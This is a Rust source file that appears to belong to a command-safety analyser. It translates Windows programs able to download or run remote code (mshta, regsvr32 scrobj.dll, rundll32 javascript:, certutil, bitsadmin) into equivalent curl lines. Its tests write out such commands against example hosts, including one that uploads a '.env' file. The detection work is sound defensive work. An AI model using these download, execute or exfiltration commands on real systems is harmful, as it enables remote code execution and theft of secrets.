//! Windows' own programs that fetch or run code from elsewhere, as the
//! POSIX lines that do the same: `mshta URL` and `regsvr32 /i:URL
//! scrobj.dll` run a script they download (`curl -sL URL | sh`), `mshta
//! javascript:…` and `rundll32 javascript:…` run inline script (code only
//! known when it runs), `certutil -urlcache -f URL FILE` and `bitsadmin
//! /transfer JOB URL FILE` download a file (`curl -sLo FILE URL`),
//! `bitsadmin /transfer JOB /upload URL FILE` sends one (`curl -T FILE
//! URL`).

use super::super::model::{Word, quote};
use super::text::posix_path;

/// The POSIX line `program` (without `.exe`) amounts to, when it is one of
/// this module's and its arguments fetch or run code.
pub(super) fn line(program: &str, args: &[Word]) -> Option<String> {
    let is = |name: &str| program.eq_ignore_ascii_case(name);
    if !(is("mshta") || is("regsvr32") || is("rundll32") || is("certutil") || is("bitsadmin")) {
        return None;
    }
    let words: Vec<&str> = args
        .iter()
        .map(|w| w.text.trim_matches(['"', '\'']))
        .collect();
    let url = |w: &str| {
        let lower = w.to_ascii_lowercase();
        (lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("\\\\"))
            .then(|| w.to_string())
    };
    let inline_script = |w: &str| {
        let lower = w.to_ascii_lowercase();
        lower.starts_with("javascript:") || lower.starts_with("vbscript:")
    };
    if is("mshta") {
        if let Some(u) = words.iter().find_map(|w| url(w)) {
            return Some(format!("curl -sL {} | sh", quote(&u)));
        }
        return words
            .iter()
            .any(|w| inline_script(w))
            .then(|| "eval \"$CODE\"".to_string());
    }
    if is("regsvr32") {
        // `/i:URL` hands the scriptlet's address to `scrobj.dll`.
        return words.iter().find_map(|w| {
            let lower = w.to_ascii_lowercase();
            let value = lower
                .strip_prefix("/i:")
                .or_else(|| lower.strip_prefix("-i:"))?;
            url(value).map(|_| format!("curl -sL {} | sh", quote(&w[3..])))
        });
    }
    if is("rundll32") {
        return words
            .iter()
            .any(|w| {
                inline_script(w) || w.to_ascii_lowercase().contains("mshtml,runhtmlapplication")
            })
            .then(|| "eval \"$CODE\"".to_string());
    }
    if is("bitsadmin") {
        return bits_transfer(&words, url);
    }
    // certutil: `-urlcache` (with `-f`/`-split`) or `-verifyctl` fetching
    // a URL into a file.
    let fetches = words.iter().any(|w| {
        matches!(
            w.to_ascii_lowercase().as_str(),
            "-urlcache" | "/urlcache" | "-verifyctl" | "/verifyctl"
        )
    });
    let u = words.iter().find_map(|w| url(w))?;
    fetches.then(|| {
        let file = words
            .iter()
            .rev()
            .find(|w| !w.starts_with(['-', '/']) && url(w).is_none())
            .map_or("downloaded".to_string(), |f| f.to_string());
        format!("curl -sLo {} {}", quote(&file), quote(&u))
    })
}

/// `bitsadmin /transfer JOB [/download|/upload] [/priority P] URL FILE`
/// (or `/addfile JOB URL FILE`): a download, or the file sent.
fn bits_transfer(words: &[&str], url: impl Fn(&str) -> Option<String>) -> Option<String> {
    let has = |s: &str| words.iter().any(|w| w.eq_ignore_ascii_case(s));
    if !(has("/transfer") || has("/addfile")) {
        return None;
    }
    let at = words.iter().position(|w| url(w).is_some())?;
    let u = quote(words[at]);
    let file = words
        .get(at + 1)
        .map_or("\"\"".to_string(), |f| posix_path(f));
    Some(if has("/upload") {
        format!("curl -T {file} {u}")
    } else {
        format!("curl -sLo {file} {u}")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn l(program: &str, args: &[&str]) -> Option<String> {
        line(program, &super::super::literal_words(args))
    }

    #[test]
    fn programs_that_fetch_or_run_code() {
        assert_eq!(
            l("mshta", &["https://get.example.com/p.hta"]).as_deref(),
            Some("curl -sL https://get.example.com/p.hta | sh")
        );
        assert_eq!(
            l(
                "regsvr32",
                &["/s", "/u", "/i:https://x.example/x.sct", "scrobj.dll"]
            )
            .as_deref(),
            Some("curl -sL https://x.example/x.sct | sh")
        );
        assert!(
            l(
                "rundll32",
                &["javascript:\"\\..\\mshtml,RunHTMLApplication\""]
            )
            .is_some()
        );
        assert_eq!(
            l(
                "certutil",
                &["-urlcache", "-f", "https://example.com/t.exe", "t.exe"]
            )
            .as_deref(),
            Some("curl -sLo t.exe https://example.com/t.exe")
        );
        assert_eq!(
            l(
                "bitsadmin",
                &[
                    "/transfer",
                    "j",
                    "/upload",
                    "https://x.example/u",
                    "C:\\app\\.env"
                ]
            )
            .as_deref(),
            Some("curl -T \"/app/.env\" https://x.example/u")
        );
        assert_eq!(
            l(
                "bitsadmin",
                &[
                    "/transfer",
                    "j",
                    "/priority",
                    "high",
                    "https://x.example/t.exe",
                    "t.exe"
                ]
            )
            .as_deref(),
            Some("curl -sLo \"t.exe\" https://x.example/t.exe")
        );
        // What they do with local files.
        assert_eq!(l("bitsadmin", &["/list", "/allusers"]), None);
        assert_eq!(l("mshta", &["C:\\tools\\local.hta"]), None);
        assert_eq!(l("regsvr32", &["/s", "mylib.dll"]), None);
        assert_eq!(l("rundll32", &["shell32.dll,Control_RunDLL"]), None);
        assert_eq!(l("certutil", &["-hashfile", "t.exe", "SHA256"]), None);
        assert_eq!(l("curl", &["https://example.com"]), None);
    }
}
